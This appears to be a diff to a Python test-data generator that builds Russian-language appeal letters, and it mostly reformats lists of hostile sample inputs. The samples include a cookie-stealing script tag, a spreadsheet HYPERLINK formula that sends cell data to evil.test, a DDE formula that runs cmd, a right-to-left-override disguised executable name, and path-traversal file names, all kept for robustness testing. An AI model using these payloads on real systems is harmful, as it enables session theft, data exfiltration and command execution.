@@ -31,12 +31,19 @@ _LETTERS = (
 # Texts that break a careless reader: markup, formulas, bidi marks, control characters, names of paths.
 HOSTILE_TEXTS = (
     "<script>window.stolen = document.cookie</script><img src=x onerror=\"alert('обращение')\"> Прошу ответить.",
-    "=HYPERLINK(\"http://evil.test/?\"&A1;\"Открыть ответ\")",
+    '=HYPERLINK("http://evil.test/?"&A1;"Открыть ответ")',
     "+7-000-000 @SUM(1+1)*cmd|' /C calc'!A0",
     "Файл \u202efdp.exe\u202c приложен.\u200b Прошу\u00a0открыть.",
     "{{constructor.constructor('alert(1)')()}} ${7*7} %s %n \\u0000 \x07\x1b[31mкрасный\x1b[0m",
 )
-_HOSTILE_NAMES = ("../../x.exe", "..\\..\\Автозагрузка\\run.bat", "CON", "акт<script>.pdf", "=cmd.pdf", "отчёт\u202efdp.exe")
+_HOSTILE_NAMES = (
+    "../../x.exe",
+    "..\\..\\Автозагрузка\\run.bat",
+    "CON",
+    "акт<script>.pdf",
+    "=cmd.pdf",
+    "отчёт\u202efdp.exe",
+)
 
 
 @dataclass(frozen=True, slots=True)
@@ -84,7 +91,9 @@ def make_letter(rng: Random, index: int, house: House, flat: str | None) -> Lett
         return Letter("hostile", rng.choice(_TOPICS), text, applicant, (_file(rng, name, b"MZ not a program"),))
     files: tuple[StoredFile, ...] = ()
     if index % 3 == 0:
-        files = (_file(rng, f"Заявление {index + 1}.pdf", text_pdf(["Заявление", f"Приложение к обращению № {index + 1}"])),)
+        files = (
+            _file(rng, f"Заявление {index + 1}.pdf", text_pdf(["Заявление", f"Приложение к обращению № {index + 1}"])),
+        )
     return Letter("ordinary", rng.choice(_TOPICS), rng.choice(_LETTERS), applicant, files)
 
 
